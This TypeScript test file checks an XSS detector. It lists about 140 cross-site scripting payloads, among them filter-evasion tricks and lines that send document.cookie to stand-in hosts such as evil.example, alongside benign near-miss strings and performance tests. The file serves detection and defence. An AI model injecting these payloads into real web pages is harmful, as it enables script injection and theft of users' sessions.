import { test } from 'node:test';
import assert from 'node:assert/strict';
import { detectXss } from '../src/threats/detectors/xss.js';
import type { DetectContext, Hit, Paranoia } from '../src/threats/types.js';
import { assertCheap, cpuNsPerCall } from './threats-timing.js';

function ctx(paranoia: Paranoia = 1): DetectContext {
  return { paranoia, location: 'query', name: 'q', isKey: false };
}

function detect(text: string, paranoia: Paranoia = 1): Hit | undefined {
  return detectXss(text, text.toLowerCase(), ctx(paranoia));
}

/** Blocks at paranoia 1 on its own: severity 5 at paranoia 1. */
function strong(text: string): boolean {
  const h = detect(text);
  return h !== undefined && h.paranoia === 1 && h.severity >= 5;
}

const ATTACKS: readonly string[] = [
  // HTML content: tags that run script or load content
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<ScRiPt>prompt`1`</sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)"/>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
  '<object data="javascript:alert(1)">',
  '<embed src="//evil.example/x.swf">',
  '<applet code="Evil.class">',
  '<base href="//evil.example/">',
  '<link rel=import href=//evil.example/x.html>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css";</style>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action=//evil.example><input name=password></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<frameset onload=alert(1)>',
  '<!--#exec cmd="id"-->',
  '<?import namespace="t" implementation="#default#time2">',
  // event handlers, malformed tags, odd separators
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg\nonload\n=\nalert(1)>',
  '<body onload=alert(document.domain)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<x onclick=alert(1)>click',
  '<xss onbeforehellfreezes=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<a href="#" onmouseover="alert(1)">hover</a>',
  '<div style="width: expression(alert(1))">',
  '<div style="xss:expr/*x*/ession(alert(1))">',
  '<p style="background:url(javascript:alert(1))">',
  '<div style="-moz-binding:url(//evil.example/x.xml#x)">',
  '<span datasrc="#x" datafld="b" dataformatas="html"></span>',
  // look-alike brackets
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // attribute context
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" onfocus=alert(1) autofocus x="',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" style="background:url(javascript:alert(1))',
  "' onselect=$.getScript('//evil.example') '",
  'x onerror=alert(1)//',
  '"formaction="//evil.example',
  // JavaScript context
  "';alert(1)//",
  "x onerror=fetch('//e.example/?c='+document.cookie)",
  '`-alert()-`',
  'for(x of document.cookie)alert(x)',
  'document.cookie',
  "';return document.cookie}//",
  '<img src=x onerror=`alert()`>',
  "javascript:document.location='//evil.example/'+document.cookie",
  "\" onmouseover=location.href='//evil' x=\"",
  '"-alert(1)-"',
  "'-prompt(1)-'",
  '\\";alert(1);//',
  '</script><script>alert(1)</script>',
  '${alert(1)}',
  '`;confirm(1);`',
  'al\\u0065rt(1)',
  '\\u0061lert`1`',
  "top['al'+'ert'](1)",
  "window['alert'](document['cookie'])",
  'self[/*x*/"alert"]("xss")',
  '(document)["cookie"]',
  'document /*x*/ . cookie',
  '[].constructor.constructor("alert(1)")()',
  "''.constructor.constructor('alert(1)')()",
  'eval(atob("YWxlcnQoMSk="))',
  "setTimeout('alert(1)', 0)",
  'Function("alert(1)")()',
  'new Function()',
  "fetch('//evil.example/?c='+document.cookie)",
  "import('//evil.example/x.js')",
  'document.write("<img src=x>")',
  "document.location='//evil.example'",
  'window.location="//evil.example"',
  "location.href='//evil.example'",
  'x.innerHTML=location.hash',
  'String.fromCharCode(88,83,83)',
  '(0,eval)("alert(1)")',
  'a=eval;b=alert;a(b(1))',
  '[].sort.call`${alert}1337`',
  '(![]+[])[+!+[]]+(!![]+[])[+[]]',
  "x';document.body.appendChild(document.createElement('script')).src='//e'//",
  // URL context
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  ' \x01javascript:alert(1)',
  'vbscript:msgbox(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:,<img src=x onerror=alert(1)>',
  // template injection
  "{{constructor.constructor('alert(1)')()}}",
  "{{$on.constructor('alert(1)')()}}",
  // more evasions
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
  'ja&tab;vascript:alert(1)',
  'url(javascript',
  "\"-top[/al/.source+/ert/.source](1)-\"",
  'onerror=alert;throw 1',
  'alert?.(1)',
  '[1].map(alert)',
  'Reflect.apply(alert, null, [1])',
  'setTimeout`alert\\u0028document.domain\\u0029`',
  'document.querySelector("p").textContent="XSS"',
  'scriptalert(1)/script',
  "'';!--\"<xss>=&{()}",
  '1\u20444script3\u20444alert(1)',
  // a function expression or a timer right after leaving the application's string
  'x";setTimeout(name, 1)//',
  "unittests@example.org' (function(){if(typeof foo===\"undefined\"){var a=new Date();do{var b=new Date();}while(b-a<20000);foo=1;}}()) '",
  'test"+(function(){return 1}())+"',
  "';(function(){fetch('//x')})()//",
  'javascript:<!--\nalert(1)',
  "'-document.location='//evil'-'",
  'x"-window.location="//evil"//',
  // optional chaining
  'alert?.(document?.cookie)',
  'prompt?.(1)',
];

const BENIGN: readonly string[] = [
  'hello world',
  "O'Brien",
  'select a plan',
  '1 - 2',
  'a < b > c',
  'x<5 and y>3',
  'I <3 you',
  'Bob <bob@example.com>',
  'List<string> items = new List<string>();',
  'Dictionary<string, List<int>> map;',
  'Map<String, Object> values = new HashMap<>();',
  'Optional<Link> next; Task<Style> s;',
  'x => x * 2; a -> b',
  '{"name":"alice","tags":["a","b"],"n":1}',
  'https://www.example.com/search?q=test&lang=en',
  'see https://developer.mozilla.org/en-US/docs/Web/JavaScript',
  'Fish &amp; chips &lt;3',
  'I am learning javascript and the onload event',
  'JavaScript: The Good Parts',
  'He said "hello" and left',
  '**bold** and _italic_ with [a link](https://example.com) and `code`',
  '![](https://example.com/cat.png)',
  'Please confirm (by email) your order',
  'Select item(s) and confirm(s) below',
  'course eval (evaluation) form',
  'the alert was raised at 10:30',
  'Is this an alert?. (no)',
  'user?.profile?.name ?? "anonymous"',
  'prompt engineering for LLMs',
  'regular expression (regex) tutorials',
  '<b>bold</b> and <i>italic</i> and <p>para</p>',
  'C:\\Program Files\\App\\bin',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  '+34 912 345 678',
  '2024-01-31T10:20:30Z',
  '$19.99 (20% off)',
  'SELECT name FROM users WHERE id = 1',
  'if (a < b && c > d) { return a; }',
  'the window location is nice and the document is ready',
  'data: 12 items, status: ok',
  'style=color:red;background:white',
  'step 1 --> step 2',
  'onion=3 online=yes',
  'Calle de Alcalá, 12, 3º izq. (Madrid)',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'mailto:bob@example.com',
  'tel:+34912345678',
  'Re: your message (2)',
  'x=1; y=2; total=(x+y)',
  'function(a, b) { return a + b; }',
  'import { sayHi } from "./greeting.js";',
  '1¼ cups flour, ¾ cup sugar',
  // code in other languages and prose about the web
  'self.name = name',
  "self['name'] = value",
  'self.eval()',
  'model.eval()',
  'self.document = doc',
  'sock.settimeout(5)',
  'await fetch(url)',
  'from x import (a, b)',
  "navigation.navigate('Home')",
  "content['title']",
  'Use document.querySelector to find it',
  'window.open is blocked',
  'learn javascript: basics',
  'Java Script: tips',
  'if (!![].length) {}',
  'Map<Svg, Math>',
  'Array<Frame>; Promise<Form>; Observable<Meta>',
  '<?xml version="1.0"?><svg></svg>',
  '<x:xmpmeta xmlns:x="adobe:ns:meta/">',
  'Hello {{name}}!',
  '${HOME}/bin',
  '<!-- comment -->',
  'background: url(\'https://cdn.example.com/x.png\')',
  'Expression: (a + b)',
  'myalert(1) and confirmation(2)',
  // a timer given a function or a variable runs no string
  'setInterval(code, 1)',
  'setTimeout(() => refresh(), 500)',
  // a quotation of code opens its quote; a code snippet closes strings it opened
  'He said "(function(){ return 1 })()" is an IIFE',
  'var a = "x"; setTimeout(fn, 10);',
  "it's (function(){})() ok",
  "const f = 'a' + (function(){ return 'b' })();",
  // a type glued to a word with a parameter name (no attribute value): a signature
  '.compile(Object schema) -> Function<Object data>',
  'Map<Object key>',
  // code spans and labels in documentation
  'Set to `true` to ignore all `eval()` calls (which would normally create scopes).',
  "a policy that includes the value `'unsafe-eval'`.",
  'For more about OpenTelemetry JavaScript: <https://github.com/open-telemetry/opentelemetry-js>',
  'A block of custom HTML that will be added to your `<head>` tag. Good for things like `<meta>` tags.',
  // interface names in API documentation (scripts reach document, window, location in lower case)
  'The **`Document.location`** read-only property returns a Location object.',
  'The Window.location read-only property returns a Location object.',
  'The Range.createContextualFragment() method returns a document fragment.',
  // a DOM member named between words of a question, no script syntax around it
  'Why does document.cookie return an empty string on localhost?',
  'Use location.href to redirect the page',
  // API documentation: a member or an empty call in a Markdown code span, or closing a sentence
  '**`document.designMode`** controls whether the entire document is editable.',
  '`window.alert()` instructs the browser to display a dialog with an optional message.',
  '**`window.postMessage()`** method safely enables cross-origin communication between Window objects',
  'writes text to a document stream opened by document.open().\n@deprecated',
  // package descriptions: a member opening the value before a word, or ending it after one
  'WHATWG spec-compliant implementations of window.atob and window.btoa',
  'window.fetch JavaScript polyfill',
];

test('xss: attacks are strong hits at paranoia 1', () => {
  const missed = ATTACKS.filter((a) => !strong(a));
  assert.deepEqual(missed, []);
});

test('xss: near-miss benign inputs are not flagged at paranoia 1', () => {
  const flagged = BENIGN.filter((b) => {
    const h = detect(b);
    return h !== undefined && h.paranoia === 1 && h.severity >= 5;
  }).map((b) => `${b} -> ${JSON.stringify(detect(b))}`);
  assert.deepEqual(flagged, []);
});

test('xss: hits are well-formed', () => {
  for (const a of ATTACKS) {
    const h = detect(a);
    assert.ok(h !== undefined, a);
    assert.equal(h.category, 'xss');
    assert.ok(h.detector.startsWith('xss.'), h.detector);
    assert.ok(h.evidence.length > 0 && h.evidence.length <= 40, `${a}: ${h.evidence}`);
  }
});

test('xss: formatting tags count only at higher paranoia', () => {
  assert.equal(detect('<b>bold</b>'), undefined);
  const h3 = detect('<b>bold</b>', 3);
  assert.ok(h3 !== undefined && h3.paranoia >= 3);
  const h2 = detect('<a href="https://example.com">link</a>', 2);
  assert.ok(h2 !== undefined && h2.paranoia === 2);
  assert.equal(detect('<a href="https://example.com">link</a>'), undefined);
});

test('xss: weak signals combine, single ones do not block', () => {
  // a closing structural tag alone is weak …
  const one = detect('</title>');
  assert.ok(one !== undefined && one.severity < 5);
  // … two distinct breakouts together are strong
  assert.ok(strong('</title></head><body>'));
});

function pathological(K: number): string[] {
  return [
    '<'.repeat(K),
    '<a '.repeat(K / 3),
    '<a x="'.repeat(K / 6),
    "<a x='<a y=\"".repeat(K / 12),
    '<a onx'.repeat(K / 6),
    '='.repeat(K),
    ' on'.repeat(K / 3) + '=',
    ':'.repeat(K),
    'javascript'.repeat(K / 10),
    'j a v a s c r i p t :'.repeat(K / 20),
    '('.repeat(K),
    'alert('.repeat(K / 6),
    'alert(1 '.repeat(K / 8),
    'alert(a,'.repeat(K / 8) + 'x y',
    "alert('".repeat(K / 7),
    'document.'.repeat(K / 9),
    'window['.repeat(K / 7),
    "top['a'+".repeat(K / 8),
    '/*'.repeat(K / 2),
    'document/*'.repeat(K / 10),
    '`'.repeat(K),
    '${'.repeat(K / 2),
    '[]+!'.repeat(K / 4),
    '{{'.repeat(K / 2),
    '\\u0061'.repeat(K / 6),
    'expression'.repeat(K / 10) + ':'.repeat(K / 10),
    ':/**/'.repeat(K / 5),
    ':/*'.repeat(K / 3),
    '<a x='.repeat(K / 5),
    '<a x=/'.repeat(K / 6),
    'alert(-{'.repeat(K / 8) + '}x'.repeat(K / 16),
    'alert(/'.repeat(K / 7),
    'behavior'.repeat(K / 8),
    'url( /*'.repeat(K / 7),
    'url(url('.repeat(K / 8),
    '&;'.repeat(K / 2) + ':',
    '\uff1c'.repeat(K),
    '+adw-'.repeat(K / 5),
    'a'.repeat(K),
    '1\u20444'.repeat(K / 3),
    'alert?.('.repeat(K / 8),
    '[1].map(alert,'.repeat(K / 14),
    'top[/a/+'.repeat(K / 8),
    '\' (function(){'.repeat(K / 15),
    'x";settimeout(a,'.repeat(K / 16),
  ];
}

const detect4 = (s: string): unknown => detectXss(s, s.toLowerCase(), ctx(4));

test('xss: pathological inputs of the engine window size finish in a few milliseconds', () => {
  // warm the JIT on every code path first: the first calls run unoptimized code
  for (const input of pathological(4_096)) for (let r = 0; r < 3; r++) detectXss(input, input.toLowerCase(), ctx(4));
  // 16 KiB: the largest value the engine hands a detector at once
  for (const input of pathological(16_384)) assertCheap(`${JSON.stringify(input.slice(0, 16))}… 16 KiB`, detect4, input, { ceilingMs: 15, runs: 3 });
});

test('xss: pathological inputs of 100 KB stay linear', () => {
  for (const input of pathological(100_000)) assertCheap(`${JSON.stringify(input.slice(0, 16))}… 100 KB`, detect4, input, { ceilingMs: 100, runs: 3 });
});

test('xss: paranoia and location shape the answer', () => {
  // prose that names a scheme is at most a weak signal
  const prose = detect('JavaScript: The Good Parts');
  assert.ok(prose === undefined || prose.severity < 5);
  // a bare DOM member in a path segment is weak, in a query it is strong
  const lower = 'document.cookie';
  const inPath = detectXss(lower, lower, { paranoia: 1, location: 'path', name: '', isKey: false });
  assert.ok(inPath !== undefined && inPath.severity < 5);
  assert.ok(strong('document.cookie'));
  // at paranoia 2 an HTML link is a notice, at 1 nothing
  assert.equal(detect('<img src="https://cdn.example.com/a.png">'), undefined);
  const p2 = detect('<img src="https://cdn.example.com/a.png">', 2);
  assert.ok(p2 !== undefined && p2.paranoia === 2);
});

test('xss: typical benign values are cheap', () => {
  const values = ['alice', '12345', 'bob@example.com', 'The quick brown fox jumps over the lazy dog, twice.', 'Calle Mayor 5, Madrid'];
  const lowers = values.map((v) => v.toLowerCase());
  const c = ctx();
  // CPU time, best of three batches (after a warm-up batch)
  const perCall = cpuNsPerCall((i) => detectXss(values[i % values.length]!, lowers[i % values.length]!, c), 100_000);
  assert.ok(perCall < 3_000, `${perCall.toFixed(0)} ns per call`);
});

test('xss: never throws on odd input', () => {
  const odd = ['', '<', '\\u', '\\u{', '"', "'", '`', 'alert(', 'top[', 'top["', 'data:', ':', '=', '&{', '{{', '\ud800', '<\u0000script>', 'javascript:'];
  for (const o of odd) assert.doesNotThrow(() => detect(o, 4));
});
